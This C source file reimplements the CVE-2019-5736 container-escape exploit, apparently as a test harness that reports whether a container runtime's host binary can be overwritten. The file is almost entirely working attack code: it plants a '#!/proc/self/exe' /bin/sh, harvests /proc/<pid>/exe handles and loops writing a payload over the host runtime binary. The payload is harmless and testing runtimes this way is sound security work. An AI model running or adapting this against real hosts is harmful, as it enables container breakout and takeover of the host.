/* cve_2019_5736 - the published CVE-2019-5736 exploit, as a container's
 * process, in its two forms.
 *
 *   cve_2019_5736 exec      the container's pid 1; the host then runs
 *                           `RUNTIME exec CTR /bin/sh`
 *   cve_2019_5736 held FD   exec'd by evil.so (cve_2019_5736_preload.c),
 *                           preloaded into process.args ["/proc/self/exe"]:
 *                           FD is that process's /proc/self/exe
 *
 * exec: replace /bin/sh with the two-line script "#!/proc/self/exe", then
 * spin over /proc until some other process's /proc/<pid>/exe opens (O_PATH
 * and O_RDONLY, as the exploit does: the runtime's exec'd process, once the
 * kernel ran the runtime's own binary as the script's interpreter).  Then
 * loop on open("/proc/self/fd/N", O_WRONLY|O_TRUNC) for every handle held:
 * ETXTBSY while the host's runtime process still runs, and the moment it
 * exits the exploit gets the host binary and writes its payload.
 *
 * image: the container's pid 1 *is* the runtime's binary (the program is
 * /proc/self/exe); the preloaded constructor opens /proc/self/exe and execs
 * this program with the descriptor, which then loops the same way (the
 * binary is no longer busy once the runtime's process on the host has gone
 * too).
 *
 * Both keep trying until the file /host-exited has existed for SECONDS (3, or
 * the number in it) and at most 60 s in all, then write /report:
 *   handles=N                  runtime handles held
 *   attempts=N                 opens for writing tried
 *   opened=N                   of which succeeded
 *   written=N                  payloads written
 *   last_errno=NAME            errno of the last failed attempt
 *   after_exit_errno=NAME      errno of the last attempt made after
 *                              /host-exited appeared ("-" if none)
 * and a copy of each held file (read through the handle) as /held.N. */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>

#define PAYLOAD "#!/bin/sh\necho pwned by the container\n"
#define MAX_HANDLES 16

static int handles[MAX_HANDLES], n_handles;
static int held_pid[MAX_HANDLES];
static long attempts, opened, written;
static int last_errno, after_exit_errno;

static double now(void) {
  struct timespec t;
  clock_gettime(CLOCK_MONOTONIC, &t);
  return (double)t.tv_sec + (double)t.tv_nsec / 1e9;
}

static const char *ename(int e) {
  if (e == 0)
    return "-";
  const char *n = strerrorname_np(e);
  return n ? n : "?";
}

/* Keep a copy of what the handle points at: the test compares it with the
 * runtime binary, which proves the exploit really held it. */
static void save_copy(int h, int idx) {
  char p[64], dst[64];
  snprintf(p, sizeof(p), "/proc/self/fd/%d", h);
  int in = open(p, O_RDONLY | O_CLOEXEC);
  if (in < 0)
    return;
  snprintf(dst, sizeof(dst), "/held.%d", idx);
  int out = open(dst, O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC, 0644);
  if (out >= 0) {
    char buf[65536];
    ssize_t n;
    while ((n = read(in, buf, sizeof(buf))) > 0)
      if (write(out, buf, (size_t)n) != n)
        break;
    close(out);
  }
  close(in);
}

static void hold(int h, int pid) {
  if (n_handles == MAX_HANDLES) {
    close(h);
    return;
  }
  save_copy(h, n_handles);
  held_pid[n_handles] = pid;
  handles[n_handles++] = h;
}

static int holding(int pid) {
  for (int i = 0; i < n_handles; i++)
    if (held_pid[i] == pid)
      return 1;
  return 0;
}

/* One round of the write loop over every handle held. */
static void try_write(int after_exit) {
  for (int i = 0; i < n_handles; i++) {
    char p[64];
    snprintf(p, sizeof(p), "/proc/self/fd/%d", handles[i]);
    attempts++;
    int w = open(p, O_WRONLY | O_TRUNC | O_CLOEXEC);
    if (w >= 0) {
      opened++;
      if (write(w, PAYLOAD, sizeof(PAYLOAD) - 1) > 0)
        written++;
      else
        last_errno = errno;
      close(w);
      continue;
    }
    last_errno = errno;
    if (after_exit)
      after_exit_errno = errno;
  }
}

static double host_exited_since(void) {
  struct stat st;
  if (stat("/host-exited", &st) < 0)
    return -1;
  return (double)st.st_mtim.tv_sec;
}

static int grace_seconds(void) {
  FILE *f = fopen("/host-exited", "re");
  int s = 0;
  if (f) {
    if (fscanf(f, "%d", &s) != 1)
      s = 0;
    fclose(f);
  }
  return s > 0 ? s : 3;
}

static void report(void) {
  FILE *f = fopen("/report.tmp", "we");
  if (f == NULL)
    return;
  fprintf(f, "handles=%d\nattempts=%ld\nopened=%ld\nwritten=%ld\nlast_errno=%s\nafter_exit_errno=%s\n",
          n_handles, attempts, opened, written, ename(last_errno), ename(after_exit_errno));
  fclose(f);
  rename("/report.tmp", "/report");
}

/* Try to write until /host-exited has been there for its grace time. */
static void write_loop(double deadline) {
  double seen = -1;
  for (;;) {
    double t = now();
    if (t > deadline)
      break;
    if (seen < 0 && host_exited_since() >= 0)
      seen = t;
    try_write(seen >= 0);
    if (seen >= 0 && t - seen > grace_seconds())
      break;
  }
}

/* The exploit's first step: /bin/sh becomes a script run by whatever
 * binary executes it. */
static int plant_script(void) {
  unlink("/bin/sh");
  int fd = open("/bin/sh", O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC, 0777);
  if (fd < 0)
    return -1;
  const char s[] = "#!/proc/self/exe\n";
  int r = write(fd, s, sizeof(s) - 1) == (ssize_t)(sizeof(s) - 1) ? 0 : -1;
  close(fd);
  return r;
}

/* Spin over /proc for any other process whose exe opens. */
static void scan(void) {
  DIR *d = opendir("/proc");
  if (d == NULL)
    return;
  struct dirent *e;
  while ((e = readdir(d)) != NULL) {
    int pid = atoi(e->d_name);
    if (pid <= 1 || pid == getpid() || holding(pid))
      continue;
    char p[64];
    snprintf(p, sizeof(p), "/proc/%d/exe", pid);
    int h = open(p, O_PATH | O_CLOEXEC);
    if (h < 0)
      h = open(p, O_RDONLY | O_CLOEXEC);
    if (h >= 0)
      hold(h, pid);
  }
  closedir(d);
}

int main(int argc, char **argv) {
  double deadline = now() + 60;
  if (argc == 3 && strcmp(argv[1], "held") == 0) {
    int h = atoi(argv[2]);
    if (fcntl(h, F_SETFD, FD_CLOEXEC) < 0) {
      perror("held descriptor");
      return 1;
    }
    hold(h, 1);
    write_loop(deadline);
    report();
    return 0;
  }
  if (argc != 2 || strcmp(argv[1], "exec") != 0) {
    fprintf(stderr, "usage: cve_2019_5736 exec | held FD\n");
    return 2;
  }
  if (plant_script() < 0) {
    perror("plant /bin/sh");
    return 1;
  }
  /* Ready: the test may run the exec now (it reads the fifo /ready). */
  int ready = open("/ready", O_WRONLY | O_CLOEXEC);
  if (ready >= 0) {
    (void)!write(ready, "planted\n", 8);
    close(ready);
  }
  while (now() < deadline && host_exited_since() < 0) {
    scan();
    try_write(0);
  }
  write_loop(deadline);
  report();
  return 0;
}
